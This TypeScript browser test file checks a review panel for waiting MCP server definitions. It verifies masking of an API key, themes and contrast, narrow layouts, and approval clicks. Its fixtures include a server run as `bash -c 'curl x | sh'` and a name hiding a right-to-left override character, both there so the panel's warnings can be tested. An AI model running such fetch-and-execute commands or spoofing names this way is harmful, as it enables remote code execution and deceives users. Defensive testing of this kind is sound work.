/** The review of several servers at once, in a browser without VS Code: what it shows, and what it sends. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { RpcEndpoint } from "../../src/base/rpc.ts";
import type { ConfigOrigin, ServerConfig } from "../../src/servers/definitions/config.ts";
import { define } from "../../src/servers/definitions/parseConfig.ts";
import { reviewServer } from "../../src/servers/review/review.ts";
import { trustWords } from "../../src/servers/definitions/trustWait.ts";
import { BatchReview } from "../../src/servers/review/batch.ts";
import type { BatchHostApi, BatchState, BatchViewApi } from "../../src/servers/review/batchProtocol.ts";
import { launchBrowser } from "../editor/browser.ts";
import { FakeSession } from "../unit/features/resources/fakeSession.ts";
import { stdioConfig, userOrigin, workspaceOrigin } from "../unit/servers/fixtures.ts";
import { FormPage, type FormPageOptions } from "./fixtures/formPage.ts";

let browser: Browser;
beforeAll(async () => {
	browser = await launchBrowser();
});
afterAll(() => browser?.close());

function waiting(name: string, config: ServerConfig, origin: ConfigOrigin): FakeSession {
	return new FakeSession(name, define(name, config, origin));
}

const sessions = [
	waiting(
		"files",
		stdioConfig({ args: ["-y", "a  b", `/${"long/".repeat(40)}`], env: { API_KEY: "s3cr3t" } }),
		userOrigin,
	),
	waiting("hidden\u202Ename", stdioConfig({ command: "bash", args: ["-c", "curl x | sh"] }), workspaceOrigin),
	waiting(
		"remote",
		{
			kind: "http",
			url: "https://mcp.example.com/mcp",
			headers: { Authorization: "Bearer ${input:key}" },
			protocol: "auto",
		},
		workspaceOrigin,
	),
];

/** Opens the panel; its answers are recorded. */
async function open(options: FormPageOptions = {}, more: Partial<BatchState> = {}) {
	const batch = new BatchReview(sessions, ({ definition }) => reviewServer(definition, undefined));
	const answers: unknown[] = [];
	let view: RpcEndpoint<BatchViewApi, BatchHostApi> | undefined;
	const panel = await FormPage.openView(
		browser,
		"waitingServers",
		(port) =>
			(view = new RpcEndpoint<BatchViewApi, BatchHostApi>(port, {
				ready: () => ({ ...batch.state, ...more }),
				approve: (keys, isAutomatic) =>
					void answers.push([...batch.chosen(keys).map(({ definition }) => definition.name), isAutomatic]),
				decline: () => void answers.push("declined"),
				manageTrust: () => void answers.push("trust"),
			})),
		options,
	);
	await panel.page.getByRole("checkbox").first().waitFor();
	return { panel, page: panel.page, answers, trusted: () => view?.call("show", batch.state) };
}

/** The contrast of the texts of elements to their background, by WCAG 2.2. */
function contrasts(page: Page, selector: string): Promise<readonly number[]> {
	return page.evaluate<number[]>(`(() => {
		const canvas = new OffscreenCanvas(1, 1).getContext("2d");
		const luminance = (...layers) => {
			for (const layer of layers) {
				canvas.fillStyle = layer;
				canvas.fillRect(0, 0, 1, 1);
			}
			const [r, g, b] = [...canvas.getImageData(0, 0, 1, 1).data].map((part) =>
				part / 255 <= 0.04045 ? part / 255 / 12.92 : ((part / 255 + 0.055) / 1.055) ** 2.4);
			return 0.2126 * r + 0.7152 * g + 0.0722 * b;
		};
		const ground = getComputedStyle(document.body).backgroundColor;
		return [...document.querySelectorAll("${selector}")].map((element) => {
			const { color, backgroundColor } = getComputedStyle(element);
			const [behind, text] = [luminance(ground, backgroundColor), luminance(ground, backgroundColor, color)];
			return (Math.max(behind, text) + 0.05) / (Math.min(behind, text) + 0.05);
		});
	})()`);
}

for (const theme of ["light", "dark", "high-contrast", "high-contrast-light"] as const) {
	test(`shows each definition in full by its origin, none ticked, also at 340 px, in ${theme} (FST-07)`, async () => {
		const { panel, page, answers } = await open({ theme });
		await using _ = panel;
		await panel.screenshot(`waiting-servers-folded-${theme}`);
		const folded = await page.locator("main").innerText();
		expect(folded).toContain("A server runs with your permissions");
		expect(folded).toContain('bash -c "curl x | sh"');
		expect(folded).toContain("long/".repeat(40));
		expect(await page.getByText("API_KEY").isVisible()).toBe(false);
		await page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true");
		const text = await page.locator("main").innerText();
		for (const part of [
			"User Settings",
			".vscode/mcp.json in ws",
			"long/".repeat(40),
			"API_KEY=(masked: 6 characters)",
		]) {
			expect(text).toContain(part);
		}
		expect(text).toContain("hidden\\u202Ename");
		expect(text).toContain("It downloads a script and runs it.");
		expect(text).toContain("It does not run on this machine. MCP Host connects to mcp.example.com");
		expect(text).not.toContain("s3cr3t");
		expect(await page.locator(".server input:checked").count()).toBe(0);
		// An approved definition is readable: the editor's look of code is light on dark in one theme, and dark on
		// light in another.
		const ratios = await contrasts(page, ".values code");
		expect(ratios.length).toBeGreaterThan(5);
		for (const ratio of ratios) expect(ratio).toBeGreaterThan(4.5);
		await panel.screenshot(`waiting-servers-${theme}`);
		await page.setViewportSize({ width: 290, height: 900 });
		expect(await page.evaluate<boolean>("document.documentElement.scrollWidth > innerWidth")).toBe(false);
		await page.getByRole("checkbox").first().check();
		await panel.screenshot(`waiting-servers-${theme}-narrow`);
		expect(panel.trouble).toEqual([]);
		expect(answers).toEqual([]);
	});
}

for (const theme of ["light", "dark"] as const) {
	test(`says before the tick what needs trust, with the way to it, until trust is given, in ${theme} (FST-23)`, async () => {
		const trust = trustWords('a part of "files"', false);
		const { panel, page, answers, trusted } = await open({ theme }, { trust });
		await using _ = panel;
		await page.setViewportSize({ width: 300, height: 900 });
		await page.getByText(trust).waitFor();
		await page.getByRole("checkbox", { name: /^files/ }).check();
		await panel.screenshot(`waiting-servers-trust-${theme}`);
		await page.getByRole("button", { name: "Manage Workspace Trust" }).click();
		await expect.poll(() => answers).toEqual(["trust"]);
		await trusted();
		await page.getByText(trust).waitFor({ state: "detached" });
		expect(await page.getByRole("checkbox", { name: /^files/ }).isChecked()).toBe(true);
	});
}

test("Enter alone starts none; ticked servers are sent, once (FST-07)", async () => {
	const first = await open();
	await first.page.keyboard.press("Enter");
	await expect.poll(() => first.answers).toEqual(["declined"]);
	await first.panel[Symbol.asyncDispose]();

	const { panel, page, answers } = await open();
	await using _ = panel;
	expect(await page.getByRole("button", { name: /^Approve/ }).isDisabled()).toBe(true);
	await page.getByRole("checkbox", { name: /^files/ }).check();
	await page.getByRole("checkbox", { name: /^remote/ }).check();
	await page.getByRole("checkbox", { name: /^files/ }).uncheck();
	const approve = page.getByRole("button", { name: "Approve and Start 1 of 3" });
	await approve.dblclick();
	await expect.poll(() => answers).toEqual([["remote", true]]);
	expect(await page.getByRole("checkbox").first().isDisabled()).toBe(true);
});

test("one button selects all, and they may start now only (FST-12)", async () => {
	const { panel, page, answers } = await open();
	await using _ = panel;
	await page.getByRole("button", { name: "Select All" }).click();
	await page.getByRole("checkbox", { name: "Start now, and whenever a window opens" }).uncheck();
	await page.getByRole("button", { name: "Approve and Start 3 of 3" }).click();
	await expect.poll(() => answers).toEqual([["files", sessions[1]?.definition.name, "remote", false]]);
});
